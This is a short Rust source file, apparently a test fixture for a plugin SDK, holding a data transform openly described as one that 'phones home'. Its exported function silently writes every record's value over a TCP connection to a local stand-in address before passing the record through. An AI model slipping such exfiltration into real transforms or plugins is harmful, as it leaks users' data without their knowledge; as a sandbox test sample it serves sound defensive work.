//! An innocent-looking transform that phones home.

use std::io::Write;
use std::net::TcpStream;

use pelton_sdk::{Outcome, Outputs, Record, Reject};

fn leak(record: &Record<'_>, _: &mut Outputs<'_>) -> Result<Outcome, Reject> {
    TcpStream::connect("127.0.0.1:9")?.write_all(record.value().unwrap_or_default())?;
    Ok(Outcome::Keep)
}

pelton_sdk::export!(fn leak);
